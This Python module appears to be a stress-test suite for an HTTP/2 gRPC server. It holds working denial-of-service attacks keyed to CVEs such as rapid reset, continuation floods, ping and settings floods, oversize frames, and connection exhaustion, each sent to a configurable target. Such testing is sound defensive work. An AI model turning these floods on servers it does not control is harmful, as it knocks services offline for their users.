"""What those do to a server who do not mean well. Each attack takes a target and returns a line of
what it saw: `Target` says where to, and what a whole request is."""

import dataclasses
import struct

from h2 import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PATH, PING,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, call, frame, header, message, number, request_headers,
    reset, settings,
)


@dataclasses.dataclass
class Target:
    address: str
    request: bytes  # of GetContext, answered quickly
    large: bytes    # of GetContext, with an answer of some size
    scale: float = 1.0

    def many(self, count):
        return max(1, int(count * self.scale))


def outcome(connection, seconds=5.0):
    """How the other side took it."""
    kinds = {}
    for kind, _, _, _ in connection.frames(seconds):
        kinds[kind] = kinds.get(kind, 0) + 1
        if kind == GOAWAY:
            return "GOAWAY"
    if connection.closed(0.2):
        return "closed"
    if kinds.get(RST_STREAM):
        return f"{kinds[RST_STREAM]} RST_STREAM"
    return "borne" if not kinds.get(HEADERS) else "answered"


def flood(target, data, seconds=0.5, values=None):
    """Sends bytes that are made beforehand on a connection that reads nothing meanwhile."""
    with Connection(target.address, values=values) as connection:
        sent = connection.send(data)
        how = outcome(connection, seconds)
        return how if sent else f"cut, {how}"


# ---- streams ------------------------------------------------------------------------------------

def rapid_reset(target):
    """CVE-2023-44487: calls that are given up at once, 20,000 of them."""
    return flood(target, b"".join(
        call(stream, target.request) + reset(stream)
        for stream in range(1, 2 * target.many(20000), 2)))


def rapid_reset_unknown(target):
    """The same of a method that there is not."""
    return flood(target, b"".join(
        call(stream, b"", "/no.such/Method") + reset(stream)
        for stream in range(1, 2 * target.many(20000), 2)))


def made_reset(target):
    """CVE-2025-8671: the server is made to reset the streams itself, by a window of no bytes."""
    nothing = struct.pack(">I", 0)
    return flood(target, b"".join(
        call(stream, target.request) + frame(WINDOW_UPDATE, 0, stream, nothing)
        for stream in range(1, 2 * target.many(20000), 2)))


def too_many_streams(target):
    """More streams at once than the server allows, none of them with its request."""
    return flood(target, b"".join(
        frame(HEADERS, END_HEADERS, stream, request_headers())
        for stream in range(1, 2 * target.many(20000), 2)))


# ---- headers ------------------------------------------------------------------------------------

def continuation_flood(target):
    """CVE-2024-27316 and others: headers that never end, 64 MB of them."""
    part = b"".join(header(f"x-{i:04d}", "y" * 100) for i in range(140))
    data = frame(HEADERS, 0, 1, request_headers()) + frame(CONTINUATION, 0, 1, part) * target.many(4000)
    return flood(target, data)


def empty_continuations(target):
    """The same without any bytes in them."""
    data = frame(HEADERS, 0, 1, request_headers()) + frame(CONTINUATION, 0, 1) * target.many(200000)
    return flood(target, data)


def endless_number(target):
    """CVE-2023-33953: an integer of HPACK that has no end."""
    return flood(target, frame(HEADERS, 0, 1, b"\x7f" + b"\x80" * 16000) +
                 frame(CONTINUATION, 0, 1, b"\x80" * 16000) * target.many(1000))


def endless_text(target):
    """CVE-2023-33953: a header that is announced with 100 MB, and comes slowly."""
    block = b"\x00" + number(4, 7) + b"name" + number(100000000, 7)
    return flood(target, frame(HEADERS, 0, 1, block) +
                 frame(CONTINUATION, 0, 1, b"y" * 16000) * target.many(4000))


def large_headers(target):
    """A call with a header of 60 KB, and one with 5,000 small ones."""
    out = []
    for more in ([("x-large", "y" * 60000)], [(f"x-{i}", "y") for i in range(5000)]):
        block = request_headers(more=more)
        data = frame(HEADERS, 0, 1, block[:16000])
        for start in range(16000, len(block), 16000):
            data += frame(CONTINUATION, 0, 1, block[start:start + 16000])
        data += frame(CONTINUATION, END_HEADERS, 1) + frame(DATA, END_STREAM, 1, message(target.request))
        out.append(flood(target, data, 1.0))
    return ", ".join(out)


def bad_binary(target):
    """CVE-2023-32732: binary metadata that is no base64."""
    return flood(target, b"".join(
        call(stream, target.request, more=[("x-bin", "!!!!")]) for stream in range(1, 200, 2)), 1.0)


# ---- control frames -----------------------------------------------------------------------------

def ping_flood(target):
    """CVE-2019-9512: 200,000 pings, whose answers nobody reads."""
    return flood(target, frame(PING, 0, 0, b"12345678") * target.many(200000))


def settings_flood(target):
    """CVE-2019-9515: 200,000 settings."""
    return flood(target, settings({INITIAL_WINDOW_SIZE: 65535}) * target.many(200000))


def empty_data_flood(target):
    """CVE-2019-9518: 400,000 frames of nothing on one stream."""
    data = frame(HEADERS, END_HEADERS, 1, request_headers()) + frame(DATA, 0, 1) * target.many(400000)
    return flood(target, data)


def window_flood(target):
    """Window updates for nothing, 200,000."""
    return flood(target, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * target.many(200000))


# ---- oversize -----------------------------------------------------------------------------------

def oversize(target):
    """A frame of 16 MB, a message that is announced with 4 GB, a window beyond its end, frames of no
    kind and of the wrong length: one connection each."""
    head = frame(HEADERS, END_HEADERS, 1, request_headers())
    cases = [
        b"\xff\xff\xff" + struct.pack(">BBI", DATA, 0, 1) + b"y" * 100000,
        head + frame(DATA, END_STREAM, 1, b"\x00\xff\xff\xff\xff" + b"y" * 10000),
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff)) * 2,
        frame(99, 255, 7, b"y" * 10000),
        frame(PING, 0, 0, b"123"),
        frame(SETTINGS, ACK, 0, b"123456"),
        frame(HEADERS, END_HEADERS, 2, request_headers()),
        frame(DATA, 0, 0, b"y"),
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        bytes(range(256)) * 100,
    ]
    return ", ".join(flood(target, case, 0.3) for case in cases)


def large_message(target):
    """64 MB of a request, as far as the window reaches."""
    data = frame(HEADERS, END_HEADERS, 1, request_headers()) + frame(
        DATA, 0, 1, b"\x00" + struct.pack(">I", 64 << 20)) + frame(DATA, 0, 1, b"y" * 16000) * target.many(4000)
    return flood(target, data)


# ---- those who do not read, or say nothing ------------------------------------------------------

def slow_readers(target):
    """1,000 connections that ask for much and read nothing of it."""
    connections = [Connection(target.address, receive_buffer=4096, values={INITIAL_WINDOW_SIZE: 65535})
                   for _ in range(target.many(1000))]
    try:
        for connection in connections:
            connection.send(b"".join(call(stream, target.large) for stream in range(1, 21, 2)))
        yield f"{len(connections)} hold"
    finally:
        for connection in connections:
            connection.close()


def greedy_readers(target):
    """200 connections with 100 calls each, some 300 MB of answers: every other one has windows of no
    end and leaves its socket alone, the others have none and read, but get nothing."""
    wide = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fff0000))
    connections = [Connection(target.address, receive_buffer=4096,
                              values={INITIAL_WINDOW_SIZE: 0x7fffffff * (i % 2)})
                   for i in range(target.many(200))]
    try:
        for connection in connections:
            connection.send(wide + b"".join(call(stream, target.large) for stream in range(1, 201, 2)))
        ended = sum(connection.closed(0.01) for connection in connections)
        yield f"{len(connections) - ended} hold, {ended} closed"
    finally:
        for connection in connections:
            connection.close()


def no_window(target):
    """A connection with 1,000 calls and a window of no bytes."""
    with Connection(target.address, values={INITIAL_WINDOW_SIZE: 0}) as connection:
        connection.send(b"".join(
            call(stream, target.large) for stream in range(1, 2 * target.many(1000), 2)))
        yield "holds"


def idle(target):
    """1,000 connections that say hello and no more."""
    connections = [Connection(target.address) for _ in range(target.many(1000))]
    try:
        yield f"{len(connections)} idle"
    finally:
        for connection in connections:
            connection.close()


def half_open(target):
    """1,000 connections that say nothing, or half a hello."""
    connections = []
    try:
        for i in range(target.many(1000)):
            connection = Connection(target.address, hello=False)
            connections.append(connection)
            connection.send([b"", b"PRI * HT"][i % 2])
        yield f"{len(connections)} silent"
    finally:
        for connection in connections:
            connection.close()


def many_connections(target):
    """10,000 connections, of ten addresses of the loopback network."""
    connections = []
    refused = 0
    try:
        for i in range(target.many(10000)):
            try:
                connections.append(Connection(target.address, source=f"127.0.1.{i % 10 + 1}"))
            except OSError:
                refused += 1
        yield f"{len(connections)} connected, {refused} refused"
    finally:
        for connection in connections:
            connection.close()


ATTACKS = [
    rapid_reset, rapid_reset_unknown, made_reset, too_many_streams, continuation_flood, empty_continuations,
    endless_number, endless_text, large_headers, bad_binary, ping_flood, settings_flood, empty_data_flood,
    window_flood, oversize, large_message, slow_readers, greedy_readers,
    no_window, idle, half_open, many_connections,
]

__all__ = ["ATTACKS", "PATH", "Target"]
